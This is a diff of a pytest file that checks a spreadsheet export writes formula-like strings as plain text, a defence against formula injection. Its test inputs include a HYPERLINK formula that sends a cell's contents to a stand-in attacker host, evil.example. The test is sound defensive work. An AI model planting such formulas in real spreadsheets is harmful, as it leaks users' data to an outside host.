@@ -2,7 +2,6 @@
 
 from __future__ import annotations
 
-import io
 from pathlib import Path
 
 import pytest
@@ -10,7 +9,7 @@ from openpyxl import load_workbook
 
 from robotest.runtime.reports.xlsx import render_xlsx
 from robotest.runtime.results import CaseResult, RunInfo
-from robotest.server.xlsx import runs_workbook
+from robotest.server.xlsx import write_runs_workbook
 
 TEXTS = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
@@ -32,7 +31,7 @@ def all_cells(book: object) -> dict[str, tuple[str, object]]:
 
 
 @pytest.mark.parametrize("text", TEXTS)
-def test_server_spreadsheet_writes_formula_like_text_as_text(text: str) -> None:
+def test_server_spreadsheet_writes_formula_like_text_as_text(text: str, tmp_path: Path) -> None:
     run = {
         "id": f"st1/{text}",
         "run_id": text,
@@ -44,8 +43,10 @@ def test_server_spreadsheet_writes_formula_like_text_as_text(text: str) -> None:
         "counts": {"passed": 1},
     }
     tests = [{"title": text, "tags": [text], "status": "passed", "duration": 1.0, "message": text}]
-    cells = all_cells(load_workbook(io.BytesIO(runs_workbook([(run, tests)]))))
+    write_runs_workbook([(run, tests)], tmp_path / "runs.xlsx")
+    cells = all_cells(load_workbook(tmp_path / "runs.xlsx"))
     assert cells[text] == ("s", True)
+    assert cells["Station"] == ("s", False)  # ordinary text is left as it is
 
 
 @pytest.mark.parametrize("text", TEXTS)
